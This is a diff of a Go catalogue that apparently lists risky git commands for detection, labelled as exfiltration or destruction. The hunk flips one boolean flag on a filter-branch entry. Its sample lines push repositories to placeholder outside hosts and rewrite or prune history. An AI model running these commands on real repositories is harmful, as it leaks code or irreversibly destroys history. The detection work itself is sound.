@@ -34,7 +34,7 @@ var Catalogue = []Entry{
 	{"exfil/git_push_new_remote", "git", "https://git-scm.com/docs/git-remote#Documentation/git-remote.txt-emaddem", "git remote add x https://x.example/r.git && git push x --all", false},
 	{"exfil/git_push_url", "git", "https://git-scm.com/docs/git-push#URLS", "git push https://198.51.100.7/mirror.git HEAD:main", true},
 	{"exfil/git_push_url", "git", "https://git-scm.com/docs/git-push#URLS", "git push --repo=git@git.example.org:x/y.git", true},
-	{"destroy/git_rewrite", "git", "https://git-scm.com/docs/git-filter-branch", "git filter-branch --tree-filter 'rm -f secrets' HEAD", false},
+	{"destroy/git_rewrite", "git", "https://git-scm.com/docs/git-filter-branch", "git filter-branch --tree-filter 'rm -f secrets' HEAD", true},
 	{"destroy/git_rewrite", "git-filter-repo", "https://github.com/newren/git-filter-repo/blob/main/Documentation/git-filter-repo.txt", "git filter-repo --path src --force", false},
 	{"destroy/git_reflog_expire", "git", "https://git-scm.com/docs/git-reflog#Documentation/git-reflog.txt---expirelttimegt", "git reflog expire --expire=now --all && git gc --prune=now", false},
 	{"destroy/git_gc_prune", "git", "https://git-scm.com/docs/git-gc#Documentation/git-gc.txt---pruneltdategt", "git gc --prune=now", true},
